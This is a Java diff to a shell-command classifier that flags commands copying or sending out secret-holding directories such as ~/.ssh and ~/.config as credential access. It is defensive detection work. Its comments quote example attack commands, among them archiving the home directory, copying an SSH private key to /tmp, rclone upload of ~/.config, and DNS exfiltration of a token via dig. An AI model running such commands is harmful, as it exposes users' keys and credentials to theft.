@@ -268,9 +268,28 @@ final class CommandReader {
         for (Op op : r.ops) {
             if (op.kind() == OpKind.READ && op.recursive() && classifier.holdsSecrets(op.target())) {
                 r.readsSecretTree = true;
+                // cp -r ~/.config /tmp/cfg, tar czf /tmp/h.tgz ~: the secret places below the tree get a copy
+                // elsewhere, which is reading them as much as cp ~/.ssh/id_rsa /tmp/k is. A write by redirect is
+                // what the command prints (find ~ -name '*.pdf' > list.txt lists names), not a copy.
+                Set<String> redirected = new HashSet<>();
+                command.redirects().stream()
+                        .filter(Redirect::writesFile)
+                        .forEach(d -> redirected.add(target(d.target()).resolved()));
+                if (r.ops.stream()
+                        .anyMatch(w -> w.kind() == OpKind.WRITE
+                                && !redirected.contains(w.target().resolved())
+                                && !within(w.target(), op.target()))) {
+                    r.signals.add(Signal.CREDENTIAL_ACCESS);
+                }
             }
         }
         return r;
+    }
+
+    /** Whether {@code inner} is {@code tree} or below it, as resolved. */
+    private static boolean within(Target inner, Target tree) {
+        String root = tree.resolved().endsWith("/") ? tree.resolved() : tree.resolved() + "/";
+        return inner.resolved().equals(tree.resolved()) || inner.resolved().startsWith(root);
     }
 
     private Reading readCommand(Command command) {
@@ -509,7 +528,10 @@ final class CommandReader {
                 case READS ->
                     payloads.stream()
                             .filter(p -> !p.equals("-"))
-                            .forEach(p -> r.op(OpKind.READ, targetOf(p, false), false));
+                            .forEach(p -> r.op(
+                                    OpKind.READ,
+                                    targetOf(p, false),
+                                    found.trees().contains(p)));
                 case WRITES ->
                     payloads.stream()
                             .filter(p -> !p.equals("-"))
@@ -519,9 +541,15 @@ final class CommandReader {
                     // What a sender names is sent: a query name, a URL, a message ({@code dig $TOKEN.x.example}).
                     r.dataHoldsSecret |= r.args.stream().anyMatch(CommandReader::mentionsSecretVariable);
                     // "-" is the standard input, which the pipe or redirect feeding it names
-                    payloads.stream()
-                            .filter(p -> !p.equals("-"))
-                            .forEach(p -> r.op(OpKind.READ, targetOf(p, false), false));
+                    for (String p : payloads) {
+                        if (p.equals("-")) {
+                            continue;
+                        }
+                        Target t = targetOf(p, false);
+                        boolean tree = found.trees().contains(p);
+                        r.op(OpKind.READ, t, tree);
+                        r.sendsSecretTree |= tree && classifier.holdsSecrets(t);
+                    }
                 }
                 case FETCHES -> {
                     r.fetches = true;
@@ -1255,10 +1283,23 @@ final class CommandReader {
             // Old-style keys (tar czf ARCHIVE FILES): the word after the keys is the archive it creates.
             r.op(OpKind.WRITE, target(ops.get(1)), false);
         }
+        // -C DIR: the files named after it are read from DIR (tar(1), "--directory"): tar -cf - -C ~ .ssh reads ~/.ssh
+        Optional<Target> from = Optional.empty();
+        List<Word> args = c.args();
+        for (int i = 0; i + 1 < args.size(); i++) {
+            if (args.get(i).value().equals("-C") || args.get(i).value().equals("--directory")) {
+                from = Optional.of(target(args.get(i + 1)));
+            }
+        }
         for (int i = bundle ? 1 : 0; i < ops.size(); i++) {
-            String name = ops.get(i).value();
+            Word w = ops.get(i);
+            String name = w.value();
             if (!name.matches(".*\\.(tar|tgz|gz|bz2|xz|zst|zip|tbz2|txz)$")) {
-                r.op(OpKind.READ, target(ops.get(i)), true);
+                boolean relative = !name.startsWith("/") && !name.startsWith("~") && !w.dynamic();
+                Target t = from.filter(d -> relative && !d.is(PathClass.DYNAMIC))
+                        .map(d -> targetOf(d.resolved() + "/" + name, false))
+                        .orElseGet(() -> target(w));
+                r.op(OpKind.READ, t, true);
             }
         }
     }
@@ -2104,6 +2145,8 @@ final class CommandReader {
         boolean captures;
         /** It reads a whole tree that holds secret places ({@code tar czf x.tgz ~}): see {@link #holdsSecrets}. */
         boolean readsSecretTree;
+        /** What it sends is such a tree ({@code rclone copy ~/.config remote:x}), not only what it reads. */
+        boolean sendsSecretTree;
         /** The most the command can do, by the registry; empty when it does not know. */
         Optional<Scope> scope = Optional.empty();
         /** The scope it has once the code it runs is vouched for, command by command (registry's scope of a wrapper). */
@@ -2138,6 +2181,7 @@ final class CommandReader {
             this.printsPrivate = same.printsPrivate;
             this.captures = same.captures;
             this.readsSecretTree = same.readsSecretTree;
+            this.sendsSecretTree = same.sendsSecretTree;
             this.scope = same.scope;
             this.scopeOfWrapper = same.scopeOfWrapper;
             this.code.addAll(same.code);
